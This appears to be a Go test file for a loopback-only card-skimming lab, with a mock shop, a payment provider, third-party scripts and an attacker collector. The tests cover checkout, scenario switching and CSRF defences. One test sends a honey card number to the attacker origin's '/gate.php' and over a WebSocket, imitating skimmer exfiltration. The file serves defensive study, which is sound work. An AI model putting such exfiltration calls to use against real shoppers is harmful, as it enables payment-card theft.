package lab

import (
	"context"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
)

// Honey values only: a Luhn-valid test card and made-up contacts.
const (
	honeyCard  = "4111111111111111"
	honeyExp   = "12/30"
	honeyCVC   = "737"
	honeyName  = "Hanako Honey"
	honeyEmail = "hanako.honey+lab@example.test"
	honeyPhone = "090-1234-5678"
)

func startLab(t *testing.T, opts Options) *Lab {
	t.Helper()
	l, err := Start(t.Context(), opts)
	if err != nil {
		t.Fatalf("Start: %v", err)
	}
	t.Cleanup(func() {
		if err := l.Close(); err != nil {
			t.Errorf("Close: %v", err)
		}
	})
	return l
}

// browser is an HTTP client with cookies, like one browser profile.
func browser(t *testing.T) *http.Client {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	return &http.Client{Jar: jar, Timeout: 20 * time.Second}
}

func get(t *testing.T, c *http.Client, u string) (int, http.Header, string) {
	t.Helper()
	resp, err := c.Get(u)
	if err != nil {
		t.Fatalf("GET %s: %v", u, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("GET %s: read: %v", u, err)
	}
	return resp.StatusCode, resp.Header, string(b)
}

func postForm(t *testing.T, c *http.Client, u string, v url.Values) (*http.Response, string) {
	t.Helper()
	resp, err := c.PostForm(u, v)
	if err != nil {
		t.Fatalf("POST %s: %v", u, err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatalf("POST %s: read: %v", u, err)
	}
	return resp, string(b)
}

var csrfPattern = regexp.MustCompile(`name="csrf" value="([0-9a-f]+)"`)

func csrfOf(t *testing.T, html string) string {
	t.Helper()
	m := csrfPattern.FindStringSubmatch(html)
	if m == nil {
		t.Fatalf("no csrf field in page")
	}
	return m[1]
}

func TestEveryOriginAnswers(t *testing.T) {
	l := startLab(t, Options{})
	c := browser(t)
	cases := []struct {
		name, url, want string
	}{
		{"the shop serves its catalogue", l.ShopURL() + "/", "麻のストール"},
		{"the shop serves its library", l.ShopURL() + "/static/js/minq.js", "minq"},
		{"the payment provider serves its JavaScript", l.PSPOrigin() + "/pay.js", "LabPay"},
		{"the third party serves its tag manager", l.ThirdPartyOrigin() + "/tm.js?id=TM-YUTORI", "dataLayer"},
		{"the third party serves its chat widget", l.ThirdPartyOrigin() + "/chat/widget.js", "lab-chat"},
		{"the lookalike CDN serves a library with a banner", l.CDNOrigin() + cdnLibraryPath, "jQuery v3.7.1"},
		{"the attacker answers anything", l.AttackerOrigin() + "/anything.gif", "GIF89a"},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			status, _, body := get(t, c, tc.url)
			if status != http.StatusOK {
				t.Fatalf("status %d", status)
			}
			if !strings.Contains(body, tc.want) {
				t.Errorf("body lacks %q", tc.want)
			}
		})
	}
	t.Run("the payment API answers the shop's CORS preflight only", func(t *testing.T) {
		for _, tc := range []struct {
			origin string
			want   int
		}{{l.ShopURL(), http.StatusNoContent}, {l.AttackerOrigin(), http.StatusForbidden}} {
			req, err := http.NewRequest(http.MethodOptions, l.PSPAPIOrigin()+"/v1/tokens", nil)
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Origin", tc.origin)
			req.Header.Set("Access-Control-Request-Method", "POST")
			resp, err := c.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			if resp.StatusCode != tc.want {
				t.Errorf("preflight from %s: status %d, want %d", tc.origin, resp.StatusCode, tc.want)
			}
		}
	})
	t.Run("all origins are distinct", func(t *testing.T) {
		seen := map[string]bool{}
		for _, o := range []string{l.ShopURL(), l.PSPOrigin(), l.PSPAPIOrigin(), l.AttackerOrigin(), l.ThirdPartyOrigin(), l.CDNOrigin()} {
			if seen[o] {
				t.Errorf("origin %s used twice", o)
			}
			seen[o] = true
		}
	})
}

func TestStartRefusesNonLoopback(t *testing.T) {
	_, err := Start(t.Context(), Options{Addr: "0.0.0.0:0"})
	if !errors.Is(err, ErrNotLoopback) {
		t.Fatalf("Start on 0.0.0.0: err = %v, want ErrNotLoopback", err)
	}
}

func TestSetScenario(t *testing.T) {
	l := startLab(t, Options{})
	cases := []struct {
		name, set, want string
		wantErr         bool
	}{
		{"an empty name means clean", "", "clean", false},
		{"a known scenario is taken", "fake-card-form", "fake-card-form", false},
		{"an unknown name is refused and changes nothing", "no-such-thing", "fake-card-form", true},
		{"clean removes tampering", "clean", "clean", false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			err := l.SetScenario(tc.set)
			if tc.wantErr != (err != nil) {
				t.Fatalf("SetScenario(%q) err = %v", tc.set, err)
			}
			if err != nil && !errors.Is(err, ErrUnknownScenario) {
				t.Errorf("err %v does not wrap ErrUnknownScenario", err)
			}
			if got := l.Scenario(); got != tc.want {
				t.Errorf("Scenario() = %q, want %q", got, tc.want)
			}
		})
	}
}

func TestAdminEndpoint(t *testing.T) {
	t.Run("it is off by default", func(t *testing.T) {
		l := startLab(t, Options{})
		resp, _ := postForm(t, browser(t), l.ShopURL()+"/__lab/scenario", url.Values{"name": {"fake-card-form"}})
		if resp.StatusCode != http.StatusNotFound {
			t.Errorf("status %d, want 404", resp.StatusCode)
		}
		if l.Scenario() != "clean" {
			t.Errorf("scenario changed to %q", l.Scenario())
		}
	})
	t.Run("it switches scenarios when enabled", func(t *testing.T) {
		l := startLab(t, Options{AdminEndpoint: true})
		c := browser(t)
		c.Transport = withOrigin{l.ShopURL()}
		resp, body := postForm(t, c, l.ShopURL()+"/__lab/scenario", url.Values{"name": {"fake-card-form"}})
		if resp.StatusCode != http.StatusOK || l.Scenario() != "fake-card-form" {
			t.Fatalf("status %d body %q scenario %q", resp.StatusCode, body, l.Scenario())
		}
		resp, _ = postForm(t, c, l.ShopURL()+"/__lab/scenario", url.Values{"name": {"bogus"}})
		if resp.StatusCode != http.StatusBadRequest {
			t.Errorf("unknown scenario: status %d, want 400", resp.StatusCode)
		}
	})
}

// withOrigin sends the Origin header a browser sends on a same-origin post.
type withOrigin struct{ origin string }

func (w withOrigin) RoundTrip(r *http.Request) (*http.Response, error) {
	r = r.Clone(r.Context())
	r.Header.Set("Origin", w.origin)
	return http.DefaultTransport.RoundTrip(r)
}

// TestAdminEndpointRefusesCrossSitePosts reproduces the attack of issue 8:
// any page the tester's browser visits could switch the lab's scenario with
// a plain form post. In the lab every origin is on 127.0.0.1, so the
// attacker's page is same-site with the shop and only a same-origin check
// stops it.
func TestAdminEndpointRefusesCrossSitePosts(t *testing.T) {
	l := startLab(t, Options{AdminEndpoint: true})
	shop, attacker := l.ShopURL(), l.AttackerOrigin()
	tests := []struct {
		name    string
		headers map[string]string
		allowed bool
	}{
		{"a form post from the attacker's origin is refused",
			map[string]string{"Origin": attacker, "Sec-Fetch-Site": "same-site"}, false},
		{"a post a browser marks cross-site is refused",
			map[string]string{"Sec-Fetch-Site": "cross-site"}, false},
		{"a post from a sandboxed frame (Origin null) is refused",
			map[string]string{"Origin": "null"}, false},
		{"a post with only the attacker's page as Referer is refused",
			map[string]string{"Referer": attacker + "/evil.html"}, false},
		{"a post that says nothing about where it came from is refused",
			map[string]string{}, false},
		{"a same-origin Sec-Fetch-Site does not excuse a foreign Origin",
			map[string]string{"Sec-Fetch-Site": "same-origin", "Origin": attacker}, false},
		{"a post from the shop's own origin is accepted",
			map[string]string{"Origin": shop}, true},
		{"a post a browser marks same-origin is accepted",
			map[string]string{"Sec-Fetch-Site": "same-origin"}, true},
		{"a post with only the shop's page as Referer is accepted",
			map[string]string{"Referer": shop + "/products"}, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if err := l.SetScenario(""); err != nil {
				t.Fatal(err)
			}
			req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, shop+"/__lab/scenario",
				strings.NewReader(url.Values{"name": {"fake-card-form"}}.Encode()))
			if err != nil {
				t.Fatal(err)
			}
			req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
			for k, v := range tt.headers {
				req.Header.Set(k, v)
			}
			resp, err := browser(t).Do(req)
			if err != nil {
				t.Fatal(err)
			}
			resp.Body.Close()
			switch {
			case tt.allowed && (resp.StatusCode != http.StatusOK || l.Scenario() != "fake-card-form"):
				t.Fatalf("status %d, scenario %q: want 200 and fake-card-form", resp.StatusCode, l.Scenario())
			case !tt.allowed && (resp.StatusCode != http.StatusForbidden || l.Scenario() != "clean"):
				t.Fatalf("status %d, scenario %q: want 403 and clean", resp.StatusCode, l.Scenario())
			}
		})
	}
}

// TestLinkCheckoutRecordsOrder walks the link type: confirm page, hand-off
// to the provider, card on the hosted page, back to the shop.
func TestLinkCheckoutRecordsOrder(t *testing.T) {
	l := startLab(t, Options{})
	c := browser(t)
	_, _, page := get(t, c, l.ShopURL()+"/checkout/link")
	resp, hosted := postForm(t, c, l.ShopURL()+"/checkout/link", url.Values{
		"csrf": {csrfOf(t, page)}, "name": {honeyName}, "email": {honeyEmail}, "phone": {honeyPhone},
	})
	if !strings.HasPrefix(resp.Request.URL.String(), l.PSPOrigin()+"/hosted/pay") {
		t.Fatalf("hand-off went to %s, want the provider's hosted page", resp.Request.URL)
	}
	session := regexp.MustCompile(`name="session" value="([^"]+)"`).FindStringSubmatch(hosted)
	if session == nil {
		t.Fatalf("hosted page has no session field")
	}
	resp, done := postForm(t, c, l.PSPOrigin()+"/hosted/charge", url.Values{
		"session": {session[1]}, "number": {honeyCard}, "exp": {honeyExp}, "cvc": {honeyCVC}, "name": {honeyName},
	})
	if resp.StatusCode != http.StatusOK || !strings.Contains(done, `id="order-complete"`) {
		t.Fatalf("after paying: status %d at %s", resp.StatusCode, resp.Request.URL)
	}
	orders := l.Orders()
	if len(orders) != 1 {
		t.Fatalf("%d orders recorded, want 1", len(orders))
	}
	o := orders[0]
	if o.Checkout != "link" || o.Email != honeyEmail || o.Phone != honeyPhone || o.Total != 4980+2*1320+shippingYen {
		t.Errorf("order = %+v", o)
	}
	if charges := l.Charges(); len(charges) != 1 || charges[0].ID != o.ChargeID || charges[0].Method != "hosted" {
		t.Errorf("charges = %+v, order charge %s", charges, o.ChargeID)
	}
	t.Run("a bad card is refused on the hosted page", func(t *testing.T) {
		resp, _ := postForm(t, c, l.PSPOrigin()+"/hosted/charge", url.Values{
			"session": {session[1]}, "number": {"4111111111111112"}, "exp": {honeyExp}, "cvc": {honeyCVC},
		})
		if resp.StatusCode != http.StatusPaymentRequired {
			t.Errorf("status %d, want 402", resp.StatusCode)
		}
	})
}

// TestTokenCheckoutRecordsOrder does what pay.js does in a browser:
// tokenise with CORS at the provider's API, then submit only the token.
func TestTokenCheckoutRecordsOrder(t *testing.T) {
	l := startLab(t, Options{})
	c := browser(t)
	_, _, page := get(t, c, l.ShopURL()+"/checkout/token")
	if strings.Contains(page, `name="card-number"`) || !strings.Contains(page, `id="card-number"`) {
		t.Fatalf("card fields must have ids and no names, so they never post to the shop")
	}

	req, err := http.NewRequest(http.MethodPost, l.PSPAPIOrigin()+"/v1/tokens",
		strings.NewReader(`{"number":"`+honeyCard+`","exp":"`+honeyExp+`","cvc":"`+honeyCVC+`","name":"`+honeyName+`"}`))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", "application/json")
	req.Header.Set("Origin", l.ShopURL())
	resp, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	var tok struct{ Token string }
	err = json.NewDecoder(resp.Body).Decode(&tok)
	resp.Body.Close()
	if err != nil || tok.Token == "" {
		t.Fatalf("tokenise: status %d err %v", resp.StatusCode, err)
	}
	if got := resp.Header.Get("Access-Control-Allow-Origin"); got != l.ShopURL() {
		t.Errorf("tokenise CORS origin %q, want the shop", got)
	}

	resp, done := postForm(t, c, l.ShopURL()+"/order", url.Values{
		"csrf": {csrfOf(t, page)}, "name": {honeyName}, "email": {honeyEmail}, "phone": {honeyPhone},
		"payment_token": {tok.Token},
	})
	if resp.StatusCode != http.StatusOK || !strings.Contains(done, `id="order-complete"`) {
		t.Fatalf("order: status %d at %s", resp.StatusCode, resp.Request.URL)
	}
	orders := l.Orders()
	if len(orders) != 1 || orders[0].Checkout != "token" || orders[0].Name != honeyName {
		t.Fatalf("orders = %+v", orders)
	}

	t.Run("a token cannot be charged twice", func(t *testing.T) {
		_, _, page := get(t, c, l.ShopURL()+"/checkout/token")
		resp, _ := postForm(t, c, l.ShopURL()+"/order", url.Values{
			"csrf": {csrfOf(t, page)}, "name": {honeyName}, "email": {honeyEmail}, "phone": {honeyPhone},
			"payment_token": {tok.Token},
		})
		if resp.StatusCode != http.StatusPaymentRequired || len(l.Orders()) != 1 {
			t.Errorf("status %d, %d orders", resp.StatusCode, len(l.Orders()))
		}
	})
}

func TestCollectorRecordsHTTPAndWebSocket(t *testing.T) {
	l := startLab(t, Options{})
	c := browser(t)
	resp, _ := postForm(t, c, l.AttackerOrigin()+"/gate.php?x=1", url.Values{"cc_number": {honeyCard}})
	if resp.StatusCode != http.StatusNoContent {
		t.Errorf("collector status %d", resp.StatusCode)
	}

	ctx, cancel := context.WithTimeout(t.Context(), 10*time.Second)
	defer cancel()
	ws, _, err := websocket.Dial(ctx, "ws"+strings.TrimPrefix(l.AttackerOrigin(), "http")+"/ws", nil)
	if err != nil {
		t.Fatalf("dial: %v", err)
	}
	if err := ws.Write(ctx, websocket.MessageText, []byte(`{"f":"card-number","v":"`+honeyCard+`"}`)); err != nil {
		t.Fatalf("write: %v", err)
	}
	got, err := l.Attacker().WaitFor(ctx, func(r Received) bool { return r.Kind == KindWebSocket })
	if err != nil {
		t.Fatalf("no WebSocket message recorded: %v", err)
	}
	_ = ws.Close(websocket.StatusNormalClosure, "")
	if !strings.Contains(got.Body, honeyCard) {
		t.Errorf("WebSocket body %q", got.Body)
	}
	var httpGot *Received
	for _, r := range l.Attacker().Received() {
		if r.Kind == KindHTTP && r.Method == http.MethodPost {
			httpGot = &r
		}
	}
	if httpGot == nil || httpGot.URL != l.AttackerOrigin()+"/gate.php?x=1" || !strings.Contains(httpGot.Body, "cc_number="+honeyCard) {
		t.Errorf("HTTP record = %+v", httpGot)
	}
	l.Attacker().Reset()
	if n := len(l.Attacker().Received()); n != 0 {
		t.Errorf("after Reset: %d records", n)
	}
}

func TestSecurityHeaders(t *testing.T) {
	l := startLab(t, Options{ReportURI: "http://127.0.0.1:9/csp-report"})
	cases := []struct {
		name, scenario string
		wantHeaders    bool
	}{
		{"the clean shop sends its headers with the configured report-uri", "clean", true},
		{"headers-weakened drops them", "headers-weakened", false},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if err := l.SetScenario(tc.scenario); err != nil {
				t.Fatal(err)
			}
			_, hdr, _ := get(t, browser(t), l.ShopURL()+"/checkout/token")
			csp := hdr.Get("Content-Security-Policy-Report-Only")
			if tc.wantHeaders {
				if !strings.HasSuffix(csp, "; report-uri http://127.0.0.1:9/csp-report") {
					t.Errorf("CSP %q lacks the report-uri", csp)
				}
				if hdr.Get("X-Frame-Options") == "" || hdr.Get("Referrer-Policy") == "" {
					t.Errorf("headers missing: %v", hdr)
				}
			} else if csp != "" || hdr.Get("X-Frame-Options") != "" || hdr.Get("Referrer-Policy") != "" {
				t.Errorf("headers still sent: %v", hdr)
			}
		})
	}
}

func TestCancellingStartContextClosesTheLab(t *testing.T) {
	ctx, cancel := context.WithCancel(t.Context())
	l, err := Start(ctx, Options{})
	if err != nil {
		t.Fatal(err)
	}
	cancel()
	c := &http.Client{Timeout: 2 * time.Second}
	deadline := time.Now().Add(5 * time.Second)
	for {
		resp, err := c.Get(l.ShopURL() + "/")
		if err != nil {
			break
		}
		resp.Body.Close()
		if time.Now().After(deadline) {
			t.Fatal("the shop still answers after its context was cancelled")
		}
		time.Sleep(10 * time.Millisecond)
	}
	if err := l.Close(); err != nil {
		t.Errorf("Close after cancel: %v", err)
	}
}
